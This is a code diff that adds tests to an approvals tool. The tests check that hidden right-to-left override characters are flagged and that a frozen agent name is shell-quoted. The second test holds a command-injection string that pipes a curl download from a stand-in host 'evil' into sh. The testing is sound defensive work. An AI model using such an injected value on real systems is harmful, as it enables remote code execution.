@@ -124,3 +124,22 @@ def test_an_override_needs_the_root_key_and_says_what_it_is(place: Place, termin
     assert terminal.sign("approvals", "override", index).code == 0
     assert again(place) == ("OK", [5])
     place.check()
+
+
+def test_what_is_signed_for_a_grant_is_shown_whole_or_said_to_be_cut(place: Place, terminal: Terminal) -> None:
+    held(place, to="friend " * 60 + "AND ALSO \u202eevil")
+    index = terminal.done("approvals", "list").out.split()[0].removeprefix("#")
+    asked = terminal("approvals", "grant", index, "--calls", "9", "--lasts", "1h")
+    shown = asked.out.split("beforehand")[1]
+    assert "AND ALSO" in shown and "evil" in shown and "UNUSUAL: \\u{202e} RIGHT-TO-LEFT OVERRIDE" in shown
+    terminal.sign("approvals", "deny", index)
+    held(place, to="x" * 9000)
+    index = terminal.done("approvals", "list").out.split("#")[2].split()[0]
+    assert "CUT: " in terminal("approvals", "grant", index, "--calls", "9", "--lasts", "1h").out.split("beforehand")[1]
+
+
+def test_a_frozen_name_that_a_shell_would_obey_is_quoted(place: Place, terminal: Terminal) -> None:
+    held(place)
+    terminal.done("freeze", "agent:;curl${IFS}evil|sh;#")
+    assert "release 'agent:;curl${IFS}evil|sh;#'" in terminal.done("approvals", "list").out
+    assert "is not held" in terminal("tools", "release", "agent:;curl${IFS}evil|sh;#").error
